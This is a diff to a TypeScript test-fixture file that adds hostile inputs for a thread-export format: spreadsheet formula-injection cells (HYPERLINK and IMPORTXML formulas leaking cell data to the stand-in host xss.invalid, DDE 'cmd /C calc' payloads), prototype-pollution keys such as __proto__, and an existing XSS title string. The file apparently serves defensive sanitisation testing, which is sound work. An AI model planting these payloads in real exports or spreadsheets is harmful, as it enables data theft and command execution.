@@ -99,6 +99,24 @@ export const SAFE_SCHEMES: readonly string[] = ['http:', 'https:', 'mailto:'];
 
 export const HOSTILE_TITLE = '</title><script>alert("title")</script><img src=x onerror=alert(1)> "><svg onload=alert(1)>';
 
+/**
+ * Cell values a spreadsheet would run as formulas (OWASP's CSV injection list): a leading =, +, -,
+ * @, tab or carriage return, including the DDE and HYPERLINK forms that reach outside the sheet.
+ */
+export const FORMULA_CELLS: readonly string[] = [
+  '=HYPERLINK("https://xss.invalid/?leak="&A1,"Click for details")',
+  '=cmd|\' /C calc\'!A0',
+  '+1+cmd|\' /C notepad\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '=IMPORTXML(CONCAT("https://xss.invalid/?", A2), "//a")',
+];
+
+/** Node ids that name members every plain object inherits; as map keys they read or write its prototype. */
+export const PROTOTYPE_IDS: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
+
 /** How many comments each hostile thread has: enough that every payload and href is used. */
 export const HOSTILE_COMMENTS = Math.max(XSS_PAYLOADS.length, HOSTILE_HREFS.length);
 
@@ -290,11 +308,13 @@ function plainText(): string {
 }
 
 function threadmap(): string {
+  // The first nodes have the ids plain objects inherit, and formula cells as their author.
+  const idOf = (n: number) => (n === 0 ? 'root' : (PROTOTYPE_IDS[n - 1] ?? `n${n}`));
   const nodes = [0, ...range(HOSTILE_COMMENTS).map((i) => i + 1)].map((n) => ({
-    id: n === 0 ? 'root' : `n${n}`,
-    parent: n === 0 ? null : parentIndex(n - 1) === null ? 'root' : `n${parentIndex(n - 1)! + 1}`,
+    id: idOf(n),
+    parent: n === 0 ? null : parentIndex(n - 1) === null ? 'root' : idOf(parentIndex(n - 1)! + 1),
     kind: n === 0 ? 'post' : 'comment',
-    author: author(n),
+    author: n >= 1 && n <= FORMULA_CELLS.length ? FORMULA_CELLS[n - 1]! : author(n),
     createdAt: ISO,
     text: payload(n),
     url: href(n),
@@ -302,7 +322,7 @@ function threadmap(): string {
     html: hostileHtml(n),
     ...(n === 0 ? { title: HOSTILE_TITLE } : {}),
   }));
-  const annotations = Object.fromEntries(nodes.slice(1, 6).map((node, i) => [node.id, { tag: 'pro', note: payload(i + 9), updatedAt: ISO }]));
+  const annotations = Object.fromEntries(nodes.slice(1, 7).map((node, i) => [node.id, { tag: 'pro', note: i % 2 === 0 ? payload(i + 9) : FORMULA_CELLS[i]!, updatedAt: ISO }]));
   return JSON.stringify({
     format: 'threadmap',
     version: 1,
@@ -310,7 +330,7 @@ function threadmap(): string {
     exportedAt: ISO,
     source: { kind: payload(11), url: href(7), title: HOSTILE_TITLE, retrievedAt: ISO },
     nodes,
-    links: [{ from: 'n2', to: 'n1', kind: payload(12) }],
+    links: [{ from: 'constructor', to: '__proto__', kind: payload(12) }],
     annotations,
   });
 }
